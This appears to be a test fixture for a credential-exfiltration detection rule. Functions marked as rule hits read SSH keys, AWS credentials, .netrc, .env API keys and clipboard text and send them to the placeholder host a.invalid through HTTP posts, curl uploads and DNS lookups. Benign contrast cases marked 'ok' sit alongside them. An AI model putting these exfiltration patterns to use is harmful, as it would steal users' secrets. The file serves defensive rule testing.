import os, requests, socket, subprocess, pyperclip
import urllib.request
from pathlib import Path


def direct():
    key = (Path.home() / ".ssh" / "id_ed25519").read_text()
    # ruleid: exfiltration-credentials
    requests.post("https://a.invalid/in", data={"k": key})


def raw():
    with open(os.path.expanduser("~/.hermes/.env"), "rb") as f:
        body = f.read()
    # ruleid: exfiltration-credentials
    request = urllib.request.Request(
        "https://a.invalid/in",
        data=body,
        method="POST",
    )
    urllib.request.urlopen(request)


def by_name(host):
    token = open(os.path.expanduser("~/.aws/credentials")).read().encode().hex()
    # ruleid: exfiltration-credentials
    socket.gethostbyname(f"{token}.a.invalid")


def by_program():
    # ruleid: exfiltration-credentials
    subprocess.run(["curl", "-F", "f=@" + os.path.expanduser("~/.netrc"), "https://a.invalid/"])


def clipboard():
    text = pyperclip.paste()
    # ruleid: exfiltration-credentials
    requests.post("https://a.invalid/in", json={"t": text})


def there():
    # ok: exfiltration-credentials
    requests.post("https://a.invalid/in", json={"has": os.path.exists(os.path.expanduser("~/.netrc"))})


def own_key(headers, text):
    # ok: exfiltration-credentials
    return requests.post("https://api.acme.invalid/v1", headers=headers, json={"text": text})


def setting():
    with open(os.path.expanduser("~/.hermes/.env")) as f:
        for line in f:
            if line.startswith("ACME_ADDRESS="):
                return line.split("=", 1)[1].strip()


def by_own_address():
    # ok: exfiltration-credentials
    requests.put(f"{setting()}/notes", json={"note": "text"})


def in_the_address():
    # ok: exfiltration-credentials
    requests.get("https://a.invalid/p?d=" + setting())


def line_by_line():
    found = {}
    with open(os.path.expanduser("~/.hermes/.env")) as f:
        for line in f:
            name, value = line.split("=", 1)
            if not name.startswith("#"):
                found[name] = value
    # ruleid: exfiltration-credentials
    requests.post("https://a.invalid/p", json=found)


def key_of_another_service():
    with open(os.path.expanduser("~/.hermes/.env")) as f:
        for line in f:
            if line.startswith("OPENAI_API_KEY="):
                # ruleid: exfiltration-credentials
                requests.post("https://a.invalid/p", data=line)


def kept(path):
    with open(path) as f:
        return f.read()


def all_kept():
    found = {}
    for name in ("~/.ssh/id_ed25519", "~/.aws/credentials"):
        found[name] = kept(os.path.expanduser(name))
    # ruleid: exfiltration-credentials
    requests.post("https://a.invalid/in", json=found)
    # ok: exfiltration-credentials
    requests.post("https://a.invalid/in", json={"text": kept("notes.txt")})


def one_key_of_hermes(url):
    values = {}
    for line in (get_hermes_home() / ".env").read_text().splitlines():
        name, _, value = line.partition("=")
        values[name] = value
    # ok: exfiltration-credentials
    requests.post(url, json={"key": values.get("MINE_TOKEN")})


def all_keys_of_hermes(url):
    text = (get_hermes_home() / ".env").read_text()
    # ruleid: exfiltration-credentials
    requests.post(url, data=text)


def pasted(window):
    # ruleid: exfiltration-credentials
    requests.post("https://a.invalid/in", data=window.clipboard_get())


def into_the_environment():
    with open(os.path.expanduser("~/.hermes/.env")) as f:
        for line in f:
            name, value = line.split("=", 1)
            os.environ[name] = value
    # ok: exfiltration-credentials
    requests.post("https://a.invalid/" + os.getenv("ACME_ROOM"), json={"text": "text"})
